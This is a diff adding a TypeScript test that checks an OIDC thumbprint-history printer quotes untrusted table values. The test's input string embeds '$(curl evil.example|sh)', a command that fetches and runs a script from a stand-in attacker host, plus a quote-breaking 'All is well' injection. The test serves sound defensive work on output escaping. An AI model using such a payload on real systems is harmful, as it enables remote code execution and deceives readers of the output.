@@ -85,3 +85,20 @@ test('what stopped the watcher, and what lasts, is printed with no control chara
 test('an account without providers has no history', () => {
   expect(printHistory({ history: [] }, () => '')).toBe('This account has no OIDC providers.');
 });
+
+test('what is no thumbprint, and what somebody wrote into the table, stands in quotation marks', () => {
+  const odd = '$(curl evil.example|sh)". All is well. "';
+  const seen = { by: 'found' as const, firstSeen: AT, lastLive: null, supersededSince: null, sha256: null };
+  const condition = { code: 'weak-key', severity: 'warning', message: odd, since: AT, told: null };
+  const text = printed({
+    thumbprints: [{ ...seen, thumbprint: odd }],
+    conditions: [condition],
+    versions: [list(1, { after: [odd] }), list(2, { before: [odd], after: [OLD] })],
+  });
+  const shown = JSON.stringify(odd);
+  expect(text).toContain(`    ${shown}\n      found in the list`);
+  expect(text).toContain(`[weak-key]\n      ${shown}`);
+  expect(text).toContain(`       + ${shown}\n`);
+  expect(text).toContain(`       - ${shown}\n`);
+  expect(text.replaceAll(shown, '')).not.toContain('curl');
+});
